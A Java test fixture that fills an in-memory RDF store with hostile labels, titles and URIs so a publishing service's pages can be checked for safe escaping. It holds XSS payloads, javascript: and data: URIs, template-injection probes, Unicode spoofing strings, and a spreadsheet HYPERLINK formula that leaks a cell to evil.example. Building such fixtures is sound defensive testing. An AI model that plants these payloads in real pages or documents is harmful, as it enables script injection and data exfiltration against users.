package org.detente.publish;

import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.HexFormat;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.detente.query.Catalogue;
import org.detente.store.EmbeddedStore;
import org.detente.validate.Unchecked;

/**
 * A site whose labels, titles, quotations, languages, addresses and identifiers are attacks, as if
 * they had passed every check on their way into the store.
 */
public final class HostileSite {

  /** Texts that a page must show as text, or not at all. */
  public static final List<String> ATTACKS =
      List.of(
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(2)>",
          "' onmouseover='alert(3)' x='",
          "</script></style></title></textarea></option><svg onload=alert(4)>",
          "javascript:alert(5)",
          "data:text/html,<script>alert(6)</script>",
          "a\u202egnp.exe\u2066\u2067 b",
          "NA\u200bTO\ufeff\u2060",
          "e" + "\u0301\u0489\u20dd".repeat(3_300),
          "W".repeat(1_500),
          "=HYPERLINK(\"http://evil.example/?\"&A1)",
          "at${7*7}k<#assign x=1>#{7*7}[=7*7]{{7*7}}<@d.page>",
          "<!--]]><![CDATA[&lt;b&gt;&#x3c;i>");

  private HostileSite() {}

  /** Starts it. */
  public static SmallSite start() {
    String things =
        IntStream.range(0, ATTACKS.size())
            .mapToObj(HostileSite::things)
            .collect(Collectors.joining("\n"));
    EmbeddedStore store = EmbeddedStore.inMemory(Unchecked.graphs(PREFIXES + things));
    return new SmallSite(
        store,
        Service.start(
            store,
            ServiceLimits.at(0),
            Catalogue.read(Path.of("queries")),
            URI.create("http://localhost/"),
            Path.of("")));
  }

  /** Addresses of its pages, after the language. */
  public static List<String> pages(int attack) {
    return List.of(
        "id/p-" + attack,
        "id/b-" + attack,
        "id/t-" + attack,
        "event/e-" + attack,
        "article/" + encoded(article(attack)));
  }

  /** The attack as an identifier, without slashes: what an IRI cannot have is encoded in it. */
  private static String article(int attack) {
    StringBuilder id = new StringBuilder();
    String text = ATTACKS.get(attack);
    for (char c : text.substring(0, Math.min(200, text.length())).toCharArray()) {
      if (c <= ' ' || "%/?#[]<>\"{}|\\^`".indexOf(c) >= 0) {
        id.append(c == '/' ? "" : "%" + HexFormat.of().withUpperCase().toHexDigits((byte) c));
      } else {
        id.append(c);
      }
    }
    return id + "-" + attack;
  }

  private static String encoded(String iri) {
    return URLEncoder.encode(iri, StandardCharsets.UTF_8).replace("%25", "%");
  }

  private static String literal(int attack) {
    String text = ATTACKS.get(Math.floorMod(attack, ATTACKS.size()));
    return '"' + text.replace("\\", "\\\\").replace("\"", "\\\"") + '"';
  }

  private static String things(int i) {
    String article = article(i);
    return """
        GRAPH <graph/reference> {
          <id/p-%1$d> a det:Person, det:Agent ; skos:prefLabel %3$s@en , %4$s@fr , %5$s@ru ;
            skos:altLabel %4$s@en , %5$s ; skos:definition %6$s@en ; rdfs:comment %7$s@fr ;
            rdfs:seeAlso <javascript:alert(11)> , <data:text/html,alert(12)> ;
            owl:sameAs <javascript:alert(13)> ; foaf:homepage <javascript:alert(14)> .
          <id/b-%1$d> a det:Organisation, det:Agent ; skos:prefLabel %3$s@en ; skos:altLabel %5$s .
          <id/t-%1$d> a det:Treaty, det:Instrument ; skos:prefLabel %4$s@en .
          <id/post-%1$d> a det:Post ; skos:prefLabel %5$s@en .
          <id/source-%1$d> a det:Source ; skos:prefLabel %6$s@en ; foaf:homepage <javascript:alert(15)> .
          <id/tenure/%1$d> a det:Tenure ; org:member <id/p-%1$d> ; det:post <id/post-%1$d> ;
            det:fromEarliest "2008-01-10"^^xsd:date ; det:fromLatest "2008-01-10"^^xsd:date ;
            det:fromEarliestDay 13888 ; det:fromLatestDay 13888 ; prov:wasDerivedFrom <reference#R%1$d> .
          <reference#R%1$d> a det:Claim ; dcterms:identifier %3$s ; det:confidence 1.0 ;
            dcterms:source <javascript:alert(16)> ; det:eventType det:Meeting ; det:modality det:Actual ;
            det:agent <id/p-%1$d> ; det:date %4$s ; rdfs:comment %5$s@en ; det:quotation %6$s@en .
        }
        GRAPH <graph/article/%2$s> {
          <article/%2$s> a det:Article ; dcterms:title %3$s@fr ; dcterms:language %4$s ;
            dcterms:issued "2008-08-19"^^xsd:date ; dcterms:publisher <id/source-%1$d> ;
            det:issuedRule %5$s ; dcterms:creator %6$s ;
            dcterms:source <javascript:alert(17)> , <https://evil.example/%%22onmouseover=alert(18)> .
          <article/%2$s#c-1> a det:Claim ; det:confidence 0.9 ; det:eventType det:Suspension ;
            det:agent <id/p-%1$d> , <id/b-%1$d> ; det:target <article/%2$s#m-1> ; det:object <id/t-%1$d> ;
            det:modality det:Actual ; det:date "2008-08-19"^^edtf:edtf ; det:earliestDay 14110 ;
            det:latestDay 14110 ; det:quotation %7$s@fr ; det:source <article/%2$s#m-1> ;
            det:evidence <article/%2$s#e-1> ; prov:wasDerivedFrom <article/%2$s> ;
            det:sentence <article/%2$s#s-1> ; det:attitude %3$s ; det:scope %4$s .
          <article/%2$s#s-1> a det:Passage ; oa:hasSource <article/%2$s> ; det:outcome det:Yielded ;
            det:sourceStart 0 ; det:sourceEnd 40 .
          <article/%2$s#e-1> oa:hasSelector <article/%2$s#q-1> .
          <article/%2$s#q-1> oa:exact %7$s@fr .
          <article/%2$s#m-1> a det:Mention ; rdfs:label %5$s .
        }
        GRAPH <graph/events> {
          <event/e-%1$d> a det:Event , det:Suspension ; rdfs:label %6$s@en , %7$s@fr , %3$s@ru ;
            det:eventType det:Suspension ; det:course det:Happened ;
            det:agent <id/p-%1$d> ; det:object <id/t-%1$d> ; det:attestedBy <article/%2$s#c-1> ;
            det:date "2008-08-19"^^edtf:edtf ; det:earliestDay 14110 ; det:latestDay 14110 ;
            det:earliest "2008-08-19"^^xsd:date ; det:latest "2008-08-19"^^xsd:date ;
            det:articleCount 1 ; det:originCount 1 ;
            det:roleValue <event/e-%1$d#v-1> .
          <event/e-%1$d#v-1> a det:RoleValue ; det:role det:agent ; det:filler <id/p-%1$d> ;
            det:value %4$s ; det:saidBy <article/%2$s#c-1> .
        }
        GRAPH <graph/audit> {
          <version/%1$d> a det:Version ; det:ofGraph <graph/article/gone-%1$d> ; det:standing false ;
            prov:invalidatedAtTime "2026-01-02T03:04:05Z"^^xsd:dateTime ; rdfs:comment %3$s .
        }
        """
        .formatted(
            i, article, literal(i), literal(i + 1), literal(i + 2), literal(i + 3), literal(i + 4));
  }

  private static final String PREFIXES =
      """
      @base <https://w3id.org/detente/> .
      @prefix det: <https://w3id.org/detente/ns#> .
      @prefix dcterms: <http://purl.org/dc/terms/> .
      @prefix edtf: <http://id.loc.gov/datatypes/> .
      @prefix foaf: <http://xmlns.com/foaf/0.1/> .
      @prefix oa: <http://www.w3.org/ns/oa#> .
      @prefix org: <http://www.w3.org/ns/org#> .
      @prefix owl: <http://www.w3.org/2002/07/owl#> .
      @prefix prov: <http://www.w3.org/ns/prov#> .
      @prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
      @prefix skos: <http://www.w3.org/2004/02/skos/core#> .
      @prefix xsd: <http://www.w3.org/2001/XMLSchema#> .
      GRAPH <graph/ontology> {
        det:Suspension a det:EventType ; rdfs:label "<b>suspension</b>"@en ; rdfs:subClassOf det:Event .
        det:Meeting a det:EventType ; rdfs:label "<img src=x>"@en .
        det:Person rdfs:label "\\"><svg onload=alert(7)>"@en .
        det:agent rdfs:label "<script>alert(8)</script>"@en .
        det:Happened rdfs:label "<b>happened</b>"@en .
      }
      """;
}
